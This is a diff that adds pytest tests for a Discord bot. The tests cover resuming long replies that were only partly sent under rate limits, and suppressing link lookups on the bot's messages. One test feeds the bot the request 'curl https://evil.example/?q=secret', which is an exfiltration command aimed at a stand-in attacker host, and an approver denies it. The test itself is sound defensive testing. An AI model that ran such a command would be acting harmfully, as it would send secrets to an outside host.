@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import stat
 from collections.abc import Callable
+from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
@@ -363,6 +364,49 @@ def test_a_limit_of_a_moment_is_waited_for_and_a_reply_goes_on_behind_what_arriv
             await stage.channel.send(long)
             texts = [one["content"] for one in server.sent(private)]
             assert "\n\n".join(texts[1:]) == long.text
+
+    play(scenario)
+
+
+def test_a_reply_that_was_half_sent_says_so_goes_on_in_the_same_run_and_is_marked_in_another() -> None:
+    async def scenario(server: DiscordServer) -> None:
+        private, words = server.direct(NADER), "\n\n".join(f"{n} " + "z" * 1500 for n in range(4))
+        first, again = reply(words, answers="m1"), reply(words, answers="m1", repeated=True)
+        async with Stage(server) as stage:
+            server.limit("POST", f"/channels/{private}/messages", 60, skip=2)
+            with pytest.raises(DeliveryError) as half:
+                await stage.channel.send(first)
+            assert half.value.begun and len(server.sent(private)) == 2
+            await stage.channel.send(again)
+            assert [one["content"][:2] for one in server.sent(private)] == ["0 ", "1 ", "2 ", "3 "]
+        server.messages[private].clear()  # so long ago that the service has forgotten the nonces
+        async with Stage(server) as stage:
+            server.limit("POST", f"/channels/{private}/messages", 60, skip=2)
+            for _ in range(2):
+                with suppress(DeliveryError):
+                    await stage.channel.send(again)
+            texts = [one["content"] for one in server.sent(private)]
+            assert texts[0].startswith("(repeated after a restart)\n0 ")
+            assert [text[:2] for text in texts[1:]] == ["1 ", "2 ", "3 "]
+
+    play(scenario)
+
+
+def test_no_address_that_the_bot_writes_is_looked_up_by_the_service() -> None:
+    async def scenario(server: DiscordServer) -> None:
+        async with Stage(server) as stage:
+            private = server.direct(NADER)
+            stage.desk.approvers = (f"discord:{NADER}",)
+            server.say("ask curl https://evil.example/?q=secret", channel=private)
+            card = await stage.card(private)
+            press = server.press(card["id"], "Deny", by=ANA)
+            await until(lambda: server.interactions[press].follow_ups, "the refusal")
+            server.press(card["id"], "Deny")
+            used = [server.command(name, {"text": "x"}, channel=GENERAL) for name in ("help", "research")]
+            await until(lambda: all(server.interactions[one].edits for one in used), "the answers")
+            await stage.channel.send(reply("w" * 20_000))
+            bodies = [call.body for call in server.calls if isinstance(call.body, dict) and "content" in call.body]
+            assert len(bodies) >= 7 and all(body["flags"] & 4 for body in bodies)
 
     play(scenario)
 
